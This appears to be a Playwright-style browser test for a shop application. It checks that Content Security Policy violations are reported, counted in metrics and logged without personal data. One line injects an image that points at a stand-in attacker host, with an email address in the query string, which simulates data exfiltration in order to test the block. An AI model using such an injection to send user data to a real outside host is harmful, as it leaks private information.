import { readFileSync } from "node:fs";
import { expect, test, untilLive } from "#tests/browser/support/shopper.ts";
import { spawnShop } from "#tests/browser/support/start-shop.ts";
import { freePort } from "#tests/support/servers/free-port.ts";

const LOG = "test-results-csp-reports.log";
let shop: Awaited<ReturnType<typeof spawnShop>>;
let metricsPort = 0;

test.beforeAll(async () => {
	metricsPort = await freePort();
	shop = await spawnShop({ METRICS_PORT: String(metricsPort) }, LOG);
});
test.afterAll(() => shop.stop());

test("D-302 what a browser blocks reaches the shop by the browser's own report, is counted and logged", async ({
	page,
	complaints,
}) => {
	const counted = async () => {
		const text = await (await fetch(`http://localhost:${metricsPort}/metrics`)).text();
		return text.split("\n").filter((line) => line.startsWith("shop_csp_reports_total{"));
	};
	await page.goto(`${shop.url}/product/2`);
	await untilLive(page);
	expect(await counted()).toEqual([]);
	await page.evaluate(() => {
		document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png?ann@example.com" }));
	});
	await expect.poll(counted).toEqual([expect.stringMatching(/directive="img-src".*\} 1$/)]);
	expect((await counted())[0]).toContain('blocked="elsewhere"');
	const logged = readFileSync(LOG, "utf8");
	expect(logged).toContain('"directive":"img-src","blocked":"elsewhere","route":"/product/:id"');
	expect(logged).not.toContain("ann@example.com");
	expect(complaints.length).toBeGreaterThan(0);
	complaints.length = 0;
});
